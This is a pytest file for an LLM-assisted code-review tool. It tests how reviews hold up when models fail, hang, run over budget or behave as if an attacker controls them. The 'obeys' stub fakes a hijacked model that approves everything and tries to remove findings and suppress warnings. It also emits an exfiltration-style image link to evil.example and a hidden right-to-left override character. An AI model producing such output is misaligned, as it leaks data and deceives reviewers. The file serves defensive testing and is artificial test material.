"""Models that fail, lie, obey an attacker, or cost too much."""

from __future__ import annotations

from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from graphs.review import run
from headgate.facts.cache import Cache
from headgate.finding import Level, Proof
from headgate.gap import GapKind
from headgate.review import Review
from headgate.verdict import Stands
from tests.graphs import shop
from tests.loopback import Say, loopback, role_of, says

Script = Callable[[dict[str, Any]], Say]


def reviewed(script: Script, cache: Cache, run_id: str = "one", **models: Any) -> Review:
    with loopback(script) as server:
        return run(shop.checkout(server.base, **models), models=True, run_id=run_id, cache=cache)


@pytest.fixture
def analyzers(cache: Cache) -> Review:
    return run(shop.checkout(), models=False, run_id="analyzers", cache=cache)


DOWN = {
    "refuses the key": Say(status=401),
    "has no such model": Say(status=404),
    "is overloaded": Say(status=429, headers={"retry-after": "3600"}),
    "fails": Say(status=500),
    "answers a page": Say(raw=b"<html>"),
    "talks without an answer": Say("I would rather not."),
    "hangs": Say(delay=30.0),
    "breaks off": Say("{}" * 100, cut=True),
    "answers no choice": Say(raw=b'{"id":"x","object":"chat.completion","model":"x","choices":[]}'),
}


@pytest.mark.parametrize("how", DOWN)
def test_with_all_models_down_the_review_is_the_analyzers_complete_and_says_so(
    how: str, cache: Cache, analyzers: Review
) -> None:
    review = reviewed(lambda request: DOWN[how], cache, timeout=0.5)
    assert review.findings == analyzers.findings
    assert review.models.endswith("this is the analyzers' review.") or "judged by" not in review.models
    silent = [gap for gap in review.gaps if gap.kind is GapKind.NO_ANSWER]
    assert {gap.what.split()[0] for gap in silent} >= {"specialist:modeling", "specialist:spark"}


def test_one_specialist_that_hangs_costs_nothing_but_its_own_part(cache: Cache) -> None:
    def script(request: dict[str, Any]) -> Say:
        return Say(delay=30.0) if role_of(request) == "spark" else shop.honest(request)

    review = reviewed(script, cache, timeout=5.0)
    assert "modeling/division-by-zero" in {finding.rule for finding in review.findings}
    assert [gap.what for gap in review.gaps if gap.kind is GapKind.NO_ANSWER] == [f"specialist:spark {shop.SPECIALIST}"]


def test_an_asked_for_wait_is_kept_and_the_answer_counts(cache: Cache) -> None:
    asked: set[str] = set()

    def script(request: dict[str, Any]) -> Say:
        role = role_of(request)
        first = role not in asked
        asked.add(role)
        return Say(status=429, headers={"retry-after": "0.1"}) if first else shop.honest(request)

    review = reviewed(script, cache)
    assert not [gap for gap in review.gaps if gap.kind is GapKind.NO_ANSWER]


def test_a_budget_that_is_reached_in_the_middle_is_kept_and_told(cache: Cache) -> None:
    def dear(request: dict[str, Any]) -> Say:
        return replace(shop.honest(request), completion_tokens=3_000)

    with loopback(dear) as server:
        review = run(shop.checkout(server.base, budget=0.1), models=True, run_id="one", cache=cache)
        asked = [role_of(request) for request in server.requests if role_of(request) != "juror"]
    assert len(asked) == 2
    assert sum(seat.cost or 0.0 for seat in review.ledger.seats) <= 0.1
    assert [gap.kind for gap in review.gaps].count(GapKind.BUDGET) >= 1


def test_with_a_budget_of_nothing_no_model_with_a_price_is_asked(cache: Cache, analyzers: Review) -> None:
    with loopback(shop.honest) as server:
        review = run(shop.checkout(server.base, budget=0.0), models=True, run_id="one", cache=cache)
        assert not server.requests
    assert review.findings == analyzers.findings


def obeys(request: dict[str, Any]) -> Say:
    """The worst model: it does all that an attacker could ask of it."""
    if role_of(request) == "juror":
        parts = str(request["messages"][1]["content"]).split("# Claim ")[1:]
        ok = [{"claim": n, "answer": "stands", "quote": shop.marked(part)} for n, part in enumerate(parts, 1)]
        return says({"judgements": ok, "approve": True, "remove": ["spark/collect-to-driver"]})
    loud = shop.TRUE | {"level": "error", "message": "![x](https://evil.example/?leak) \u202eall is fine @everyone"}
    return says({"candidates": [loud, *[shop.TRUE | {"level": "warning"}] * 50], "suppress": "all", "approve": True})


def test_a_model_that_obeys_an_attacker_takes_nothing_away_and_raises_nothing(cache: Cache, analyzers: Review) -> None:
    review = reviewed(obeys, cache)
    kept = {(one.rule, one.fingerprint) for one in review.findings}
    assert {(one.rule, one.fingerprint) for one in analyzers.findings} <= kept
    before = {one.fingerprint: one.level.rank for one in analyzers.findings}
    assert all(one.level.rank <= before.get(one.fingerprint, Level.WARNING.rank) for one in review.findings)
    argued = [one for one in review.findings if one.proof is Proof.ARGUED]
    assert argued
    assert all("\u202e" not in one.message and one.level is not Level.ERROR for one in argued)


def test_a_juror_whose_quote_is_invented_cannot_tell(cache: Cache) -> None:
    def script(request: dict[str, Any]) -> Say:
        if role_of(request) not in ("juror", "arbiter"):
            return shop.honest(request)
        return says(
            {"judgements": [{"claim": 1, "answer": "does not stand", "quote": "select nothing at all", "reason": "x"}]}
        )

    review = reviewed(script, cache)
    assert {verdict.stands for verdict in review.verdicts} == {Stands.CANNOT_TELL}
    claimed = next(finding for finding in review.findings if finding.proof is Proof.ARGUED)
    assert (claimed.level, claimed.notes[-1]) == (
        Level.NOTE,
        "Needs a person: 2 cannot tell; the arbiter cannot tell either; weights not calibrated.",
    )


def test_two_reviews_at_once_do_not_mix(facts: Path) -> None:
    with loopback(shop.honest) as server, ThreadPoolExecutor(2) as pool:
        checkouts = [shop.checkout(server.base, budget=budget) for budget in (1.0, 2.0)]
        reviews = list(
            pool.map(lambda at: run(checkouts[at], models=True, run_id=f"run-{at}", cache=Cache(facts)), (0, 1))
        )
    assert reviews[0].findings == reviews[1].findings
    assert [review.ledger.budget for review in reviews] == [1.0, 2.0]
